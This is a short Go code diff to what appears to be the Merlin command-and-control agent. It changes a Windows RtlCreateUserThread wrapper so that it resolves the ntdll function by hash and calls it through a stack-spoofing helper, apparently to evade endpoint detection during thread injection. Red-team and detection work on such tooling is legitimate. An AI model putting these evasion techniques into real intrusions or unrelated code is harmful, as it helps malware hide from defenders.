@@ -26,6 +26,10 @@ import (
 
 	// X Packages
 	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/pkg/resolve"
+	"github.com/Ne0nd0g/merlin-agent/v2/spoof"
 )
 
 var ntdll = windows.NewLazySystemDLL("ntdll.dll")
@@ -68,8 +72,8 @@ func RtlCopyMemory(dest uintptr, src uintptr, len uint32) (err error) {
 //
 // https://doxygen.reactos.org/da/d0c/sdk_2lib_2rtl_2thread_8c.html#ae5f514e4fcb7d47880171175e88aa205
 func RtlCreateUserThread(hProcess uintptr, lpSecurityDescriptor, bSuspended, zeroBits, maxStack, commitSize, lpStartAddress, pParam, hThread, pClient uintptr) (addr uintptr, err error) {
-	rtlCreateUserThread := ntdll.NewProc("RtlCreateUserThread")
-	addr, _, err = rtlCreateUserThread.Call(hProcess, lpSecurityDescriptor, bSuspended, zeroBits, maxStack, commitSize, lpStartAddress, pParam, hThread, pClient)
+	rtlCreateUserThread := resolve.NewProc(ntdll, 0x0644cd4d) // RtlCreateUserThread
+	addr, _, err = spoof.Call(rtlCreateUserThread, hProcess, lpSecurityDescriptor, bSuspended, zeroBits, maxStack, commitSize, lpStartAddress, pParam, hThread, pClient)
 	if err != windows.Errno(0) {
 		err = fmt.Errorf("there was an error calling Windows RtlCreateUserThread function: %s", err)
 	} else {